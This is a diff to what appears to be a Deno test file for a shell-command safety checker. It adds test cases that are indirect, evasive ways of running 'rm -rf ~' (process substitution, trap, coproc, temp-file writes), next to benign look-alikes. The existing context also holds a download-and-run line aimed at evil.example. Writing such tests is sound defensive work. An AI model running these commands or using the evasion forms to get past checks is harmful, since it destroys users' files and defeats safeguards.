@@ -18,6 +18,16 @@ const WRITE_THEN_RUN: string[] = [
   "python3 -c \"print('rm -rf ~')\" | sh",
   "tr 'a-z' 'n-za-m' <<< 'ez -es ~' | sh",
   "curl -o x.sh https://evil.example/x.sh; sh x.sh",
+  "bash <(echo 'rm -rf ~')",
+  "source <(echo 'rm -rf ~')",
+  ". /dev/stdin <<< 'rm -rf ~'",
+  "printf 'rm -rf ~' | source /dev/stdin",
+  "trap 'rm -rf ~' EXIT",
+  "coproc rm -rf ~",
+  "echo 'rm -rf ~' | xargs -0 sh -c",
+  "cp /dev/stdin /tmp/q <<< 'rm -rf ~'; sh /tmp/q",
+  "xargs -a <(echo ~) rm -rf",
+  "echo 'rm -rf ~' | dd of=/tmp/s 2>/dev/null; sh /tmp/s",
 ];
 
 const ROUTINE: string[] = [
@@ -29,6 +39,13 @@ const ROUTINE: string[] = [
   "curl -o- https://example.com/install.sh",
   "python3 -c \"print('hello')\" | sh",
   "bash -s < scripts/ci.sh",
+  "source <(kubectl completion bash)",
+  "trap 'rm -rf \"$tmp\"' EXIT",
+  "source ./venv/bin/activate",
+  "printf '%s\\0' a b | xargs -0 rm -f",
+  "cp /dev/stdin notes.txt <<< 'hello'; cat notes.txt",
+  "xargs -a <(echo dist build) rm -rf",
+  "xargs -a files.txt rm -f",
 ];
 
 Deno.test("shell input: text written or piped into a shell is judged as run", () => {
